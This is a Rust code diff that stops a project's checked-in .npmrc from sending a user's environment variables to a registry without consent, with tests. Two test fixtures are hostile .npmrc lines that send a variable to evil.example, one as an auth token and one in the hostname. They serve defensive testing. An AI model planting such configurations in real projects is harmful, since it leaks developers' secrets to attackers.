@@ -3,11 +3,12 @@
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
-use nubrik_web::{Address, Credential};
+use nubrik_web::{Address, Agreement, Credential};
 use toml::Value;
 
 use crate::client_files::{home, origin, shown};
 use crate::origin::{ClientSettings, Origin};
+use crate::origins::not_agreed;
 use crate::{PinProblem, Registry};
 
 /// The addresses of a registry that its client would ask. None if nothing says one.
@@ -146,11 +147,36 @@ fn java(around: &dyn ClientSettings) -> Result<Vec<Origin>, PinProblem> {
     Ok(origins)
 }
 
+/// Where a project of JavaScript says where its packages come from.
+const NPM_FILE: &str = ".npmrc";
+
+/// What a line of a file of settings asks for: each variable that it names, for the place that its key or its value is about.
+fn asked_in<'t>(key: &'t str, value: &'t str) -> impl Iterator<Item = Agreement> + 't {
+    let about = key.starts_with("//").then(|| key.rsplit_once(':').map_or(key, |(place, _)| place));
+    let names = value.split("${").skip(1).filter_map(|rest| rest.split_once('}').map(|(name, _)| name));
+    names.map(move |name| Agreement::Secret {
+        variable: name.to_owned(),
+        at: about.unwrap_or(value).to_owned(),
+    })
+}
+
+fn is_set(asked: &Agreement, around: &dyn ClientSettings) -> bool {
+    matches!(asked, Agreement::Secret { variable, .. } if around.variable(variable).is_some())
+}
+
+/// What files of ordinary clients ask for that a checkout brings along.
+pub(crate) fn asked_of_checkout(around: &dyn ClientSettings) -> Vec<Agreement> {
+    let text = around.text(&around.root().join(NPM_FILE)).unwrap_or_default();
+    let lines = text.lines().filter(|line| !line.trim_start().starts_with(['#', ';']));
+    let pairs = lines.filter_map(|line| line.split_once('='));
+    pairs.flat_map(|(key, value)| asked_in(key.trim(), value.trim().trim_matches('"'))).collect()
+}
+
 fn js(around: &dyn ClientSettings) -> Result<Vec<Origin>, PinProblem> {
     let own =
         ["NPM_CONFIG_USERCONFIG", "npm_config_userconfig"].iter().find_map(|name| around.variable(name));
-    let own = own.map_or_else(|| home(around).join(".npmrc"), PathBuf::from);
-    let files = [around.root().join(".npmrc"), own, PathBuf::from("/etc/npmrc")];
+    let own = own.map_or_else(|| home(around).join(NPM_FILE), PathBuf::from);
+    let files = [around.root().join(NPM_FILE), own, PathBuf::from("/etc/npmrc")];
     // The first file that says something wins.
     let mut said: BTreeMap<String, (String, String)> = BTreeMap::new();
     for path in files {
@@ -159,8 +185,16 @@ fn js(around: &dyn ClientSettings) -> Result<Vec<Origin>, PinProblem> {
             if line.trim_start().starts_with(['#', ';']) {
                 continue;
             }
-            let value = with_variables(value.trim().trim_matches('"'), around);
-            said.entry(key.trim().to_owned()).or_insert((value, shown(&path, around)));
+            let (key, value) = (key.trim(), value.trim().trim_matches('"'));
+            if path == around.root().join(NPM_FILE) {
+                // It comes with the checkout, and a person's variables do not go where that wants.
+                let mut asked = asked_in(key, value).filter(|asked| is_set(asked, around));
+                if let Some(asked) = asked.find(|asked| !around.agrees(asked)) {
+                    return Err(not_agreed(&asked, &shown(&path, around)));
+                }
+            }
+            let value = with_variables(value, around);
+            said.entry(key.to_owned()).or_insert((value, shown(&path, around)));
         }
     }
     for name in ["npm_config_registry", "NPM_CONFIG_REGISTRY"] {
@@ -308,6 +342,10 @@ pub(crate) mod tests {
         fn root(&self) -> PathBuf {
             "/isles/almanac".into()
         }
+
+        fn agrees(&self, asked: &Agreement) -> bool {
+            self.0.contains_key(&*asked.to_string())
+        }
     }
 
     fn found(registry: Registry, pairs: &[(&'static str, &'static str)]) -> Vec<(String, String, bool)> {
@@ -373,6 +411,28 @@ pub(crate) mod tests {
     }
 
     #[test]
+    fn a_checkout_gets_no_variable_that_nobody_agreed_to() {
+        let rc = "registry=https://evil.example/npm/\n//evil.example/npm/:_authToken=${SALT}\n";
+        let agreed = "send SALT to //evil.example/npm/";
+        let find = |pairs: &[(&'static str, &'static str)]| {
+            let around = FakeMachine(pairs.iter().copied().chain([("HOME", "/home/ann")]).collect());
+            Origins::find(&OriginSettings::default(), &around).of(Registry::Js)
+        };
+        let files = [("/isles/almanac/.npmrc", rc), ("SALT", "s")];
+        let problem = find(&files).unwrap_err();
+        assert_eq!(
+            problem.message,
+            "/isles/almanac/.npmrc would send SALT to //evil.example/npm/, and you did not agree to that"
+        );
+        let origins = find(&[files[0], files[1], (agreed, "")]).unwrap();
+        assert_eq!(origins[0].credential, Some(Credential::Bearer("s".to_owned())));
+        // Where there is no such variable nothing of it is sent.
+        assert!(find(&files[..1]).is_ok());
+        let host = "registry=https://${SALT}.evil.example/\n";
+        assert!(find(&[("/isles/almanac/.npmrc", host), files[1]]).is_err());
+    }
+
+    #[test]
     fn javas_address_is_that_of_a_mirror() {
         let xml = "<settings><servers><server><id>own</id><username>ann</username><password>${env.SALT}</password></server></servers>\
             <mirrors><mirror><id>own</id><url>https://a.example/m</url><mirrorOf>central</mirrorOf></mirror>\
@@ -399,6 +459,11 @@ pub(crate) mod tests {
                 .of(Registry::Python)
         };
         let around = FakeMachine([("PIP_INDEX_URL", "https://c.example"), ("SALT", "ann:s")].into());
+        let problem = with("https://d.example/simple", Some("SALT"), &around).unwrap_err();
+        assert!(problem.message.ends_with("and you did not agree to that"), "{problem:?}");
+        let mut agreed = around.0;
+        agreed.insert("send SALT to https://d.example/simple", "");
+        let around = FakeMachine(agreed);
         let origins = with("https://d.example/simple", Some("SALT"), &around).unwrap();
         assert_eq!(origins[0].address.to_string(), "https://d.example/simple");
         assert_eq!(origins[0].credential, Some(Credential::Basic("ann".to_owned(), "s".to_owned())));
